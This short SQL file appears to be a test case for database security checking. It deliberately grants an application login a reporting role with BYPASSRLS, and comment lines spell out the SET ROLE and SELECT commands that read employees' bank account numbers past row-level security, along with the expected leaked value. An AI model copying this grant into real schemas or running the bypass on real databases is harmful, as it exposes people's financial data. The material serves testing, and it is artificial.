-- A login takes the role of the reports, which row security does not bind, because it was made a member of
-- it.
-- about: hf_perdiem_reports, employees, claims, trips
-- as: hf_perdiem_app
-- exploit: SET app.current_org = '1';
-- exploit: SET ROLE hf_perdiem_reports;
-- exploit: SELECT bank_account FROM expense.employees;
-- shows: XX12-road-secret
CREATE ROLE hf_perdiem_reports NOLOGIN BYPASSRLS;
GRANT USAGE ON SCHEMA expense TO hf_perdiem_reports;
GRANT SELECT ON expense.employees, expense.trips, expense.claims TO hf_perdiem_reports;
-- The web process runs the quick reports itself.
GRANT hf_perdiem_reports TO hf_perdiem_app;
